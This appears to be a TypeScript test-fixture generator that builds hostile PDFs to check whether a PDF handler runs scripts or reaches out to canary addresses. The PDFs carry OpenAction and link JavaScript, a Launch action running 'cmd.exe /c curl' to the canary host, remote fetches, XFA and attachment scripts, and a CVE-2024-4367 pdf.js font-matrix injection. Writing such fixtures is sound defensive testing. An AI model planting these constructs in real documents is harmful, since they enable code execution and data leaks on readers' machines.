import { type HostileFile, type Lure, payload, proseOf } from './hostile-file';

interface Parts {
  /** Entries of the catalog. */
  catalog?: string;
  /** Entries of the page. */
  page?: string;
  /** Further objects, from number 6 on. */
  objects?: string[];
  font?: string;
  content?: string;
  resources?: string;
}

/** A PDF of one page with a line of text. */
function pdf(name: string, parts: Parts): HostileFile {
  const { catalog = '', page = '', objects = [], resources = '', font } = parts;
  const content = `BT /F1 12 Tf 20 100 Td (${proseOf(name)}) Tj ET ${parts.content ?? ''}`;
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ];
  let text = '%PDF-1.7\n';
  const offsets = all.map((object, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  const entries = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${entries}`;
  text += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return { name: `pdf-${name}.pdf`, mimeType: '', buffer: Buffer.from(text, 'latin1') };
}

const stream = (dictionary: string, content: string): string =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;

/** PDFs with actions, scripts, forms and parts that lie elsewhere. */
export function pdfs(lure: Lure): HostileFile[] {
  const { canary, nowhere } = lure;
  const escaped = (text: string) => text.replaceAll(/[()\\]/g, '\\$&');
  const code = escaped(
    `app.alert(1);app.launchURL('${canary}/launch');this.submitForm('${nowhere}/s');${payload(lure)}`,
  );
  const elsewhere = (path: string) => `<< /FS /URL /F (${canary}/${path}) >>`;
  const annotation = (action: string, more = '') =>
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /A << ${action} >> ${more} >>]`;
  const image = `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8`;
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><event activity="initialize"><script contentType="application/x-javascript">${payload(lure)}</script></event><field><value><image href="${canary}/xfa.png"/></value></field></subform></template></xdp:xdp>`;
  return [
    pdf('open-script', { catalog: `/OpenAction << /S /JavaScript /JS (${code}) >>` }),
    pdf('open-address', { catalog: `/OpenAction << /S /URI /URI (${canary}/open) >>` }),
    pdf('names-script', {
      catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${code}) >>] >> >>`,
    }),
    pdf('page-action', {
      page: `/AA << /O << /S /JavaScript /JS (${code}) >> /C << /S /URI /URI (${nowhere}/) >> >>`,
    }),
    pdf('launch', {
      catalog: `/OpenAction << /S /Launch /F (${canary}/x.exe) /Win << /F (cmd.exe) /P (/c curl ${canary}) >> >>`,
    }),
    pdf('submit', {
      catalog: `/OpenAction << /S /SubmitForm /F ${elsewhere('submit')} /Flags 4 >> /AcroForm << /Fields [] >>`,
    }),
    pdf('go-remote', {
      catalog: `/OpenAction << /S /GoToR /F ${elsewhere('r.pdf')} /D [0 /Fit] >>`,
    }),
    pdf('link', { page: annotation(`/S /URI /URI (${canary}/click)`) }),
    pdf('link-script', {
      page: annotation(
        `/S /URI /URI (javascript:${code})`,
        `/AA << /E << /S /JavaScript /JS (${code}) >> >>`,
      ),
    }),
    pdf('external-image', {
      resources: '/XObject << /I 6 0 R >>',
      content: '100 0 0 100 0 0 cm /I Do',
      objects: [stream(`${image} /F ${elsewhere('i.raw')}`, '')],
    }),
    pdf('external-form', {
      resources: '/XObject << /I 6 0 R >>',
      content: '/I Do',
      objects: [
        stream(
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${elsewhere('o.pdf')} /Page 0 >>`,
          '',
        ),
      ],
    }),
    pdf('external-font', {
      font: '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor 6 0 R >>',
      objects: [
        '<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontFile2 7 0 R >>',
        stream(`/F ${elsewhere('f.ttf')}`, ''),
      ],
    }),
    pdf('font-matrix', {
      // CVE-2024-4367: a matrix that pdf.js once put into code.
      font: `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontMatrix [0.1 0 0 0.1 0 (1\\); ${code}//)] /FontDescriptor 6 0 R >>`,
      objects: ['<< /Type /FontDescriptor /FontName /Evil /Flags 4 >>'],
    }),
    pdf('form-xfa', {
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
      objects: [stream('', xfa)],
    }),
    pdf('attachment', {
      catalog: '/Names << /EmbeddedFiles << /Names [(a.html) 6 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (a.html) /EF << /F 7 0 R >> >>',
        stream('/Type /EmbeddedFile', `<script>${payload(lure)}</script>`),
      ],
    }),
    pdf('rendition', {
      page: `/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /AA << /PO << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D ${elsewhere('v.mp4')} >> >> >> >> >>]`,
    }),
  ];
}
